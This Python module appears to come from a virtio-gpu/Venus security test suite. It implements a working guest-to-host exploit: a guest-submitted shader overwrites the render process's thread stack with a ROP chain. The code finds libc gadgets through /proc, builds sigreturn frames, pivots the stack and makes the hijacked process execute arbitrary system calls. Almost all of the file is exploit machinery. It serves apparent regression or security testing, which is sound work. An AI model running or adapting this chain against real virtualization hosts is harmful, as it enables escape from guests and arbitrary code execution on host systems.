# SPDX-License-Identifier: GPL-2.0-or-later
"""A guest that owns its render process: by a shader it writes over the stack of
the process's first thread, which then makes the system calls it is told to.

Where things lie it would find out by reading, as a shader can; here /proc says
it. Every byte that is written in the process is written by the shader, or by the
guest into memory of its own."""

import errno
import os
import struct
import time

import venus
from venus import u64, vt, words

with open(os.environ['VGPU_INTRUDER'], 'rb') as shader:
    SHADER = shader.read()

SIZE = 65536
# In the memory of its own: what the shader reads, calls and their data, results.
PAYLOAD, CHAIN, DATA, RESULTS = 16, 4096, 32768, 61440
WAIT, WRITE, DONE = 0, 1, 3
NOT_YET = 0x6e6f7420796574
RT_SIGRETURN, PAUSE, RECVMSG = 15, 34, 47
# In libc: pop rax, rdi, rsp; mov [rdi], rax; syscall; each with a ret.
POP_RAX, POP_RDI, POP_RSP, STORE, SYSCALL = (
    bytes.fromhex(code)
    for code in ('58c3', '5fc3', '5cc3', '488907c3', '0f05c3'))
# The registers in a struct sigcontext.
R8, R9, R10, RDI, RSI, RDX, RAX, RSP, RIP, FLAGS = 0, 1, 2, 8, 9, 12, 13, 15, 16, 17
ARGUMENTS = RDI, RSI, RDX, R10, R8, R9


def signal_frame(registers):
    """The struct ucontext from which rt_sigreturn takes all registers."""
    values = [0] * 18
    for register, value in registers.items():
        values[register] = value & (1 << 64) - 1
    segments = struct.pack('<4H', 0x33, 0, 0, 0x2b)
    return (struct.pack('<5Q', 0, 0, 0, 0, 0) +
            struct.pack('<18Q', *values) + segments +
            struct.pack('<5Q', 0, 0, 0, 0, 0) + bytes(64) + u64(0))


class Intruder:
    """Of a guest (venus.Guest, or what is like it) and its render process."""

    def __init__(self, guest, pid):
        self.guest, self.pid = guest, pid
        guest.run(venus.UP_TO_COMMANDS, venus.create_buffer(size=SIZE),
                  venus.allocate(size=SIZE), venus.bind_buffer(),
                  venus.create_pipeline(SHADER, pushed=8))
        self.memory = guest.map_memory(SIZE)
        answer = guest.ask(venus.command(
            175, u64(venus.DEVICE), venus.info(1000244001, u64(venus.BUFFER)),
            reply=True))
        self.address, = struct.unpack_from('<Q', answer, 4)
        self.gadgets = self.find_gadgets()

    def find_gadgets(self):
        found = {}
        with open(f'/proc/{self.pid}/maps', encoding='ascii') as maps:
            lines = [line.split() for line in maps]
        with open(f'/proc/{self.pid}/mem', 'rb') as memory:
            for area, rights, *_, name in lines:
                if 'x' not in rights or '/libc.so' not in name:
                    continue
                begin, end = (int(at, 16) for at in area.split('-'))
                memory.seek(begin)
                code = memory.read(end - begin)
                for gadget in POP_RAX, POP_RDI, POP_RSP, STORE, SYSCALL:
                    at = code.find(gadget)
                    if at >= 0:
                        found.setdefault(gadget, begin + at)
        assert len(found) == 5, found
        return found

    def stack(self):
        """Where the first thread's stack ends while it waits for commands."""
        end = time.monotonic() + vt.TIMEOUT
        while True:
            with open(f'/proc/{self.pid}/syscall', encoding='ascii') as file:
                state = file.read().split()
            if state[0] == str(RECVMSG):
                return int(state[-2], 16)
            assert time.monotonic() < end, state
            time.sleep(0.01)

    def return_by_signal(self, registers):
        return (u64(self.gadgets[POP_RAX]) + u64(RT_SIGRETURN) +
                u64(self.gadgets[SYSCALL]) + signal_frame(registers))

    def wait_for_ever(self):
        """A stack, for who needs no other register."""
        return (u64(self.gadgets[POP_RAX]) + u64(PAUSE) +
                u64(self.gadgets[SYSCALL]))

    def build(self, calls, is_repeated):
        """What is to lie in our memory as the stack that it goes on with."""
        frame = len(self.return_by_signal({}))
        stack, at = b'', self.address + CHAIN
        for i, (number, *arguments) in enumerate(calls):
            at += frame
            registers = {RAX: number, RIP: self.gadgets[SYSCALL], RSP: at,
                         FLAGS: 0x202, **dict(zip(ARGUMENTS, arguments))}
            store = (u64(self.gadgets[POP_RDI]) +
                     u64(self.address + RESULTS + 8 * i) +
                     u64(self.gadgets[STORE]))
            at += len(store)
            stack += self.return_by_signal(registers) + store
        stack += (self.pivot() if is_repeated else self.wait_for_ever())
        assert CHAIN + len(stack) < DATA
        return stack

    def pivot(self):
        return u64(self.gadgets[POP_RSP]) + u64(self.address + CHAIN)

    def put(self, data, offset=0):
        """Data for a call: its address in the process."""
        self.memory[DATA + offset:DATA + offset + len(data)] = data
        return self.address + DATA + offset

    def take_over(self, calls, is_repeated=False):
        """Have the process make these calls: (number, arguments...)."""
        self.memory[:PAYLOAD] = bytes(PAYLOAD)
        self.memory[RESULTS:RESULTS + 8 * len(calls)] = u64(NOT_YET) * len(calls)
        self.guest.run(venus.record(venus.push(u64(self.address)),
                                    venus.dispatch(65535, 1, 1)),
                       venus.submit(venus.COMMANDS))
        stack = self.build(calls, is_repeated)
        self.memory[CHAIN:CHAIN + len(stack)] = stack
        written = self.pivot()
        self.memory[PAYLOAD:PAYLOAD + len(written)] = written
        self.memory[4:PAYLOAD] = words(len(written) // 4) + u64(self.stack())
        self.memory[:4] = words(WRITE)
        end = time.monotonic() + vt.TIMEOUT
        while self.memory[:4] != words(DONE):
            assert time.monotonic() < end, 'the shader has not written'
            time.sleep(0.005)
        self.guest.send(venus.seek_reply(0))  # wake it up

    def results(self, n):
        """What the first @n calls returned, once they all have or it is dead."""
        end = time.monotonic() + vt.TIMEOUT
        while time.monotonic() < end:
            got = struct.unpack_from(f'<{n}q', self.memory, RESULTS)
            if NOT_YET not in got or self.is_dead():
                return [None if value == NOT_YET else value for value in got]
            time.sleep(0.005)
        raise AssertionError('it makes no call')

    def is_dead(self):
        try:
            with open(f'/proc/{self.pid}/stat', encoding='ascii') as file:
                return file.read().rpartition(')')[2].split()[0] in 'ZX'
        except (FileNotFoundError, ProcessLookupError) as error:
            assert error.errno in (errno.ENOENT, errno.ESRCH)
            return True
